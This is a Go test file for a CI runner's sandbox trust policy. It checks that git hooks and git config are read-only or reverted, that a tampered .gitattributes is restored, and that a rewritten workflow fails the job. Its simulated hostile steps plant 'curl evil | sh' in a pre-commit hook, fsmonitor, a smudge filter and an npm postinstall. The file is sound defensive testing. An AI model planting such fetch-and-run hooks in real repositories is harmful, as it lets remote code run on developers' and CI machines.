package runner

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-ci/airlock/policies"
	"github.com/airlock-ci/airlock/runner/trust"
)

// trustJob makes a job whose workspace is a git repository with a
// workflow, a package.json and a .gitattributes, owned by the sandbox
// user, under the trust section t (CUE).
func trustJob(t *testing.T, policy string, steps ...StepSpec) (Job, string) {
	t.Helper()
	job := testJob(t, steps...)
	ws := job.Sandbox.Workspace
	for p, c := range map[string]string{
		".github/workflows/ci.yml": "on: [pull_request]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n",
		"package.json":             `{"name":"x","scripts":{"test":"jest"}}` + "\n",
		".gitattributes":           "*.go text\n",
	} {
		os.MkdirAll(filepath.Join(ws, filepath.Dir(p)), 0o755)
		os.WriteFile(filepath.Join(ws, p), []byte(c), 0o644)
	}
	if out, err := exec.Command("git", "-C", ws, "init", "-q").CombinedOutput(); err != nil {
		t.Skipf("needs git: %v %s", err, out)
	}
	exec.Command("chown", "-R", "1000:1000", ws).Run()
	var srcs []policies.Source
	if policy != "" {
		srcs = append(srcs, policies.Source{Kind: policies.KindOrg, Path: "org.cue", Data: []byte(policy)})
	}
	eff, err := policies.Load(context.Background(), srcs)
	if err != nil {
		t.Fatal(err)
	}
	set, err := trust.NewSet(eff.Policy.Trust)
	if err != nil {
		t.Fatal(err)
	}
	job.Trust = &trust.Config{Set: set}
	return job, ws
}

func findingFor(r *trust.Report, path string) *trust.Finding {
	for i := range r.Findings {
		if r.Findings[i].Path == path {
			return &r.Findings[i]
		}
	}
	return nil
}

// A hostile job under the default trust policy: hooks and git config are
// read-only inside the sandbox (the writes fail), a smudge filter added
// to .gitattributes is reverted byte for byte, a rewritten workflow fails
// the job, a new postinstall is reported.
func TestTrustDefaultPolicy(t *testing.T) {
	job, ws := trustJob(t, "", StepSpec{Name: "plant", Run: `
printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit || echo hook-write-refused
git config core.fsmonitor 'curl evil | sh' || echo config-write-refused
printf '[core]\n\tfsmonitor = evil\n' >> .git/config || echo config-append-refused
printf '*.txt filter=evil\n' >> .gitattributes
sed -i 's/ubuntu-latest/self-hosted/' .github/workflows/ci.yml
printf '{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"}}\n' > package.json
`})
	attrs, _ := os.ReadFile(filepath.Join(ws, ".gitattributes"))
	config, _ := os.ReadFile(filepath.Join(ws, ".git/config"))
	var out bytes.Buffer
	job.Stdout, job.Stderr = &out, &out
	res, err := Run(context.Background(), job, "test")
	if err != nil {
		t.Fatal(err)
	}
	text := out.String()
	for _, want := range []string{"hook-write-refused", "config-write-refused", "config-append-refused", "Read-only file system"} {
		if !strings.Contains(text, want) {
			t.Errorf("job output lacks %q:\n%s", want, text)
		}
	}
	if _, err := os.Stat(filepath.Join(ws, ".git/hooks/pre-commit")); err == nil {
		t.Error("the hook was planted")
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/config")); !bytes.Equal(b, config) {
		t.Errorf("git config changed:\n%s", b)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".gitattributes")); !bytes.Equal(b, attrs) {
		t.Errorf(".gitattributes not reverted: %q", b)
	}
	r := res.Trust
	if r == nil {
		t.Fatal("no trust report")
	}
	if !slicesContain(r.ReadOnly, ".git/hooks") || !slicesContain(r.ReadOnly, ".git/config") {
		t.Errorf("read-only paths: %v", r.ReadOnly)
	}
	for path, want := range map[string]struct{ action, outcome string }{
		".gitattributes":           {trust.ActionRevert, "reverted"},
		".github/workflows/ci.yml": {trust.ActionFail, ""},
		"package.json":             {trust.ActionWarn, ""},
	} {
		f := findingFor(r, path)
		if f == nil || f.Action != want.action || f.Outcome != want.outcome || f.Phase != trust.Runtime {
			t.Errorf("%s: %+v, want %+v", path, f, want)
		}
	}
	for _, p := range []string{".git/hooks/pre-commit", ".git/config"} {
		f := findingFor(r, p)
		if f == nil || f.Kind != trust.KindWriteRefused || !strings.Contains(f.Reason, "pid") {
			t.Errorf("refused write to %s not recorded: %+v", p, f)
		}
	}
	if !r.Failed || res.Passed || res.ExitCode == 0 {
		t.Errorf("a rewritten workflow must fail the job: failed=%v passed=%v exit=%d", r.Failed, res.Passed, res.ExitCode)
	}
}

// With revert (not readonly) for hooks, the job can write a hook, and
// it is gone after the job, the original hook back byte for byte with
// its mode.
func TestTrustRevertHooks(t *testing.T) {
	job, ws := trustJob(t, `trust: runtime: {"git-hooks": "revert", "git-config": "revert"}`, StepSpec{Name: "plant", Run: `
printf 'evil\n' > .git/hooks/pre-push && chmod 777 .git/hooks/pre-push
printf '#!/bin/sh\nevil\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo planted
git config filter.evil.smudge 'curl evil | sh' && echo configured
`})
	hook := filepath.Join(ws, ".git/hooks/pre-push")
	os.WriteFile(hook, []byte("#!/bin/sh\necho original\n"), 0o750)
	os.Chown(hook, 1000, 1000)
	config, _ := os.ReadFile(filepath.Join(ws, ".git/config"))
	var out bytes.Buffer
	job.Stdout, job.Stderr = &out, &out
	res, err := Run(context.Background(), job, "test")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "planted") || !strings.Contains(out.String(), "configured") {
		t.Fatalf("the job could not write: %s", out.String())
	}
	if _, err := os.Stat(filepath.Join(ws, ".git/hooks/pre-commit")); err == nil {
		t.Error("planted hook survives")
	}
	b, _ := os.ReadFile(hook)
	fi, _ := os.Stat(hook)
	if string(b) != "#!/bin/sh\necho original\n" || fi.Mode().Perm() != 0o750 {
		t.Errorf("pre-push not restored: %q %v", b, fi.Mode())
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/config")); !bytes.Equal(b, config) {
		t.Errorf("git config not restored:\n%s", b)
	}
	f := findingFor(res.Trust, ".git/config")
	if f == nil || !strings.Contains(f.Reason, "filter.evil.smudge") || f.Outcome != "reverted" {
		t.Errorf("git config finding: %+v", f)
	}
	if res.Trust.Failed || !res.Passed {
		t.Errorf("revert alone must not fail the job: %+v", res.Trust)
	}
}

func slicesContain(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

// A deferred baseline that is never taken (the repository is gone, or
// the job made it a file) still decides the job: an authored finding
// that fails, fails it; a repository the job made uninspectable fails it
// too; one that never existed is no finding.
func TestTrustWithoutBaseline(t *testing.T) {
	for _, tc := range []struct {
		name     string
		authored string // the authored finding's action
		script   string
		passed   bool
		reason   string
	}{
		{"authored fail, repository removed", trust.ActionFail, "rm -rf /workspace/repo", false, "authored ci .github/workflows/x.yml"},
		{"authored warn, repository removed", trust.ActionWarn, "rm -rf /workspace/repo", true, ""},
		{"repository replaced by a file", trust.ActionWarn, "rm -rf /workspace/repo && touch /workspace/repo", false, "runtime trust repo (incomplete)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			job, ws := trustJob(t, "")
			os.MkdirAll(filepath.Join(ws, "repo", ".git"), 0o755)
			exec.Command("chown", "-R", "1000:1000", ws).Run()
			job.Trust.Deferred, job.Trust.Dir = true, "repo"
			job.Trust.Authored = []trust.Finding{{Phase: trust.Authored, Category: trust.CI, Path: ".github/workflows/x.yml", Kind: trust.KindAdded, Action: tc.authored}}
			s, err := Open(context.Background(), job, "test")
			if err != nil {
				t.Fatal(err)
			}
			s.Step(context.Background(), StepSpec{Name: "x", Run: tc.script}, nil, nil)
			s.TrustBaseline() // as the hook's cleanup does: nothing to take
			res := s.Close()
			if res.Passed != tc.passed || (tc.reason != "" && !strings.Contains(res.Trust.Reason, tc.reason)) {
				t.Errorf("passed %v, reason %q; findings %+v", res.Passed, res.Trust.Reason, res.Trust.Findings)
			}
		})
	}
}
